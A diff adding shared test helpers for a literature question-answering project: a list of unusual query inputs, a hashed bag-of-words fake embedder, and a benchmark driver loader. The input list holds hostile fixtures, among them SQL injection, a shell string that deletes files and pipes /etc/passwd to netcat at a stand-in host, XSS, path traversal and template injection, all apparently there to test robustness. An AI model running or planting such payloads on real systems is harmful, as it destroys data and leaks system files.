@@ -1,0 +1,69 @@
+"""What the tests share: the checkout's paths, odd input, the fake embedder, the load driver."""
+
+from __future__ import annotations
+
+import importlib.util
+import sys
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parents[1]
+SRC = REPO / "src"
+
+ODD_BUT_VALID = [
+    "x" * 100_000,
+    "what\x00 do\x07 CAFs\x1b[31m secrete?",
+    "???!!! ... ;;;",
+    "🫁🧬💊🙂",
+    "Welche Rolle spielen tumorassoziierte Makrophagen bei Lungenkrebs?",
+    "肺癌的肿瘤微环境是什么？",
+    "'; DROP TABLE chunks; --",
+    "$(rm -rf /) `reboot` && cat /etc/passwd | nc evil 1",
+    "<img src=x onerror=alert(1)><script>alert('x')</script>",
+    "**bold** [link](http://evil.example) ![img](x) | table |",
+    "../../../../etc/passwd",
+    "ref 0 ref 151 ref -1 [abc] reference 999999999999",
+    "{{7*7}} ${7*7} %s %n",
+    "broken \udcff\ud800 utf-8 \ufffd from a bad decode",
+]
+
+
+class FakeEmbedder:
+    """Deterministic stand-in for MiniLM: a hashed bag of words, L2-normalised (no torch, no model)."""
+
+    dimension = 384
+
+    def _vector(self, text):
+        import hashlib
+
+        import numpy as np
+
+        from reviewqa.index.terms import tokenize
+
+        vector = np.zeros(self.dimension, dtype=np.float32)
+        for term in tokenize(text):
+            slot = int.from_bytes(hashlib.blake2b(term.encode(), digest_size=4).digest(), "little")
+            vector[slot % self.dimension] += 1.0
+        norm = float(np.linalg.norm(vector))
+        return vector / norm if norm else vector
+
+    def embed(self, texts, progress=False):
+        import numpy as np
+
+        return np.vstack([self._vector(t) for t in texts]).astype(np.float32)
+
+    def encode(self, texts):
+        return self.embed(texts)
+
+    def export_query_encoder(self, path):
+        path.write_bytes(b"not a real ONNX graph: tests use FakeEmbedder.encode")
+
+
+def load_driver():
+    """benchmarks/app_load.py: the same driver the load benchmark uses."""
+    if "app_load" in sys.modules:
+        return sys.modules["app_load"]
+    spec = importlib.util.spec_from_file_location("app_load", REPO / "benchmarks" / "app_load.py")
+    module = importlib.util.module_from_spec(spec)
+    sys.modules["app_load"] = module
+    spec.loader.exec_module(module)
+    return module
